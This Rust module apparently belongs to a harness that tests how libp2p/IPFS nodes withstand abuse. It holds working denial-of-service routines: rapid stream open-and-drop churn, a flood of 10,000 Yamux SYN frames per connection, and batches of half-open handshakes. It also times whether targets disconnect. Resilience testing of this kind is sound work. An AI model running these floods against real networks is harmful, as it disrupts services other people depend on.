//! Streams and connections that are opened and left idle (B6), and streams that are opened and dropped.

use std::io;
use std::net::IpAddr;
use std::sync::Arc;
use std::time::{Duration, Instant};

use futures_util::future::BoxFuture;
use futures_util::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::io::AsyncWriteExt as _;

use crate::attack::Stage;
use crate::link::{connect, secure};
use crate::session::{DROPPED_WITHIN, Session};
use crate::wire::token;

/// Streams that are opened on one connection.
const STREAMS: u32 = 10_000;
/// Connections of each client that stop in the middle of a handshake.
const HALF_OPEN: usize = 25;
/// Pause between two attempts.
const REST: Duration = Duration::from_millis(100);

/// Protocols that are proposed on streams which are dropped, in turn: one that nodes support, and one that
/// they supported.
const PROPOSED: [&str; 2] = ["/ipfs/ping/1.0.0", "/ipfs/id/push/1.0.0"];
/// Streams after which a node must disconnect: twice as many as a connection may have at once. A node that is busy
/// disconnects before some 90 of them.
const TOO_MANY: u64 = 64;

/// Opens streams, proposes a protocol on each and drops it, as fast as they are accepted.
pub fn churn<'a>(stage: &'a Arc<Stage>, session: &'a mut Session) -> BoxFuture<'a, io::Result<()>> {
    Box::pin(async move {
        let proposals = PROPOSED.map(|name| [token("/multistream/1.0.0"), token(name)].concat());
        let mut opened = 0;
        for proposal in proposals.iter().cycle() {
            let mut stream = session.link.open_raw().await?;
            stream.write_all(proposal).await?;
            stream.flush().await?;
            drop(stream);
            stage.tally.sent(proposal.len() as u64, 1);
            opened += 1;
            if opened == TOO_MANY {
                session.offend("streams opened and dropped");
            }
        }
        Ok(())
    })
}

/// On every node: connections with ten thousand streams, and connections that send nothing more.
pub async fn flood(stage: &Arc<Stage>) {
    let nodes = stage.setting.targets.len();
    let with_streams = stage.crowd(nodes, |stage, node, stranger| async move {
        loop {
            if let Err(error) = many(&stage, node, stranger).await {
                stage.tally.refused(&error);
            }
            tokio::time::sleep(REST).await;
        }
    });
    let half_open = stage.crowd(nodes, |stage, node, stranger| async move {
        let source = stage.identity(stranger).source;
        loop {
            let open = (0..HALF_OPEN).map(|number| half(&stage, node, source, number));
            let open = futures_util::future::join_all(open).await;
            // Held for a second, then the next ones.
            tokio::time::sleep(Duration::from_secs(1)).await;
            drop(open);
        }
    });
    tokio::join!(with_streams, half_open);
}

/// A Yamux header: version 0, window update with the flag SYN, no credit beyond the first window.
fn syn(stream: u32) -> Vec<u8> {
    let mut header = vec![0, 1, 0, 1];
    header.extend(stream.to_be_bytes());
    header.extend(0u32.to_be_bytes());
    header
}

async fn many(stage: &Stage, node: usize, stranger: usize) -> io::Result<()> {
    let identity = stage.identity(stranger);
    let secured = secure(stage.setting.targets[node], identity.source, &identity.keypair).await?;
    stage.tally.connected();
    stage.tally.admitted();
    let (mut reader, mut writer) = secured.split();
    // The side that dialled has the odd numbers.
    let opens: Vec<u8> = (0..STREAMS).flat_map(|number| syn(number * 2 + 1)).collect();
    let offended = Instant::now();
    let write = async {
        for chunk in opens.chunks(12 * 100) {
            writer.write_all(chunk).await?;
            writer.flush().await?;
            stage.tally.sent(chunk.len() as u64, 100);
        }
        io::Result::Ok(())
    };
    let read = async {
        let mut buffer = vec![0; 64 * 1024];
        while reader.read(&mut buffer).await.is_ok_and(|len| len > 0) {}
        Instant::now()
    };
    let both = async {
        let (_cut_off, closed) = futures_util::join!(write, read);
        closed
    };
    let closed = tokio::time::timeout(DROPPED_WITHIN, both).await.ok();
    stage.tally.offended(offended, closed, Some("streams"));
    Ok(())
}

/// A connection that stops after nothing, after a token, or before its key.
async fn half(
    stage: &Stage,
    node: usize,
    source: Option<IpAddr>,
    number: usize,
) -> io::Result<tokio::net::TcpStream> {
    let mut stream = connect(stage.setting.targets[node], source).await?;
    stage.tally.connected();
    let words = match number % 3 {
        0 => Vec::new(),
        1 => token("/multistream/1.0.0"),
        _ => [
            token("/multistream/1.0.0"),
            token("/noise"),
            vec![0xff, 0xff, 1, 2, 3],
        ]
        .concat(),
    };
    stream.write_all(&words).await?;
    stage.tally.sent(words.len() as u64, 1);
    Ok(stream)
}
